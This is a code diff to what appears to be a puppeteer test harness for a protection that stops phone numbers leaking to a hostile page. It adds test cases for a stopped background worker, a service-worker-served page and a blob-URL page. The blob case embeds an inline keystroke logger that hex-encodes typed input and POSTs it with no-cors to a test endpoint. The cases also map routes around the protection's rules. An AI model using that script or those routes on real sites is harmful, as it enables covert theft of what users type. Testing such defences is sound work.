@@ -1,8 +1,9 @@
 /** How a number comes to the attacker's page. Real input wherever the browser can be driven to it. */
 import type { CDPSession, Page } from 'puppeteer-core'
-import { type DrivenPage, until } from '../driver/index.ts'
+import { type Driven, type DrivenPage, until } from '../driver/index.ts'
 
 export interface At {
+  readonly d: Driven
   readonly page: DrivenPage
   readonly p: Page
   readonly number: string
@@ -50,6 +51,7 @@ const script =
   }
 const client = (p: Page): CDPSession => (p.mainFrame() as unknown as { client: CDPSession }).client
 
+declare const register: () => Promise<void>
 declare const state: { held: string; values?: string }
 
 export const entries: Readonly<Record<string, (at: At) => Promise<void>>> = {
@@ -121,6 +123,33 @@ export const entries: Readonly<Record<string, (at: At) => Promise<void>>> = {
     await ready(at)
     await typeInto('#text')(at)
   },
+  // The background has ended; what is known in the page, and the rules, stand without it.
+  'type-worker-stopped': async (at) => {
+    await at.d.stopWorker()
+    await typeInto('#text')(at)
+  },
+  'type-worker-stopped-reload': async (at) => {
+    await at.d.stopWorker()
+    await at.page.reload()
+    await ready(at)
+    await typeInto('#text')(at)
+  },
+  // A page that the site's own service worker answers: no request, so no rule.
+  'type-own-page': async (at) => {
+    await at.p.evaluate(() => register())
+    await at.page.goto(`${at.origin}/own?exit=${exitOf(at)}`)
+    await ready(at)
+    await typeInto('#text')(at)
+  },
+  'type-blob-top': async (at) => {
+    await at.p.evaluate((origin) => {
+      const page = `<input id="text"><button id="send"></button><script>document.getElementById('text').addEventListener('keyup',e=>{if(e.target.value.length>7)fetch('${origin}/x/top',{method:'POST',mode:'no-cors',body:[...e.target.value].map(c=>c.charCodeAt(0).toString(16)).join('')})})</script>`
+      location.href = URL.createObjectURL(new Blob([page], { type: 'text/html' }))
+    }, at.origin)
+    await until('the page of the blob', () => at.p.evaluate(() => location.protocol === 'blob:'))
+    await at.p.waitForSelector('#text')
+    await typeInto('#text')(at)
+  },
   'paste-text': pasteInto('#text'),
   'paste-area': pasteInto('#area', (n) => `客户电话：${n}，谢谢`),
   'paste-dashes': pasteInto('#tel', (n) => n.replace(/(\d{3})(\d{4})(\d{4})/, '$1-$2-$3')),
@@ -132,8 +161,8 @@ export const entries: Readonly<Record<string, (at: At) => Promise<void>>> = {
     await pasteInto('#text', (n) => n.slice(6))(at)
   },
   'paste-two-fields': async (at) => {
-    await pasteInto('#first', (n) => n.slice(0, 6))(at)
-    await pasteInto('#text', (n) => n.slice(6))(at)
+    await pasteInto('#text', (n) => n.slice(0, 6))(at)
+    await pasteInto('#tel', (n) => n.slice(6))(at)
   },
   'exec-command': async ({ p, number }) => {
     await p.focus('#text')
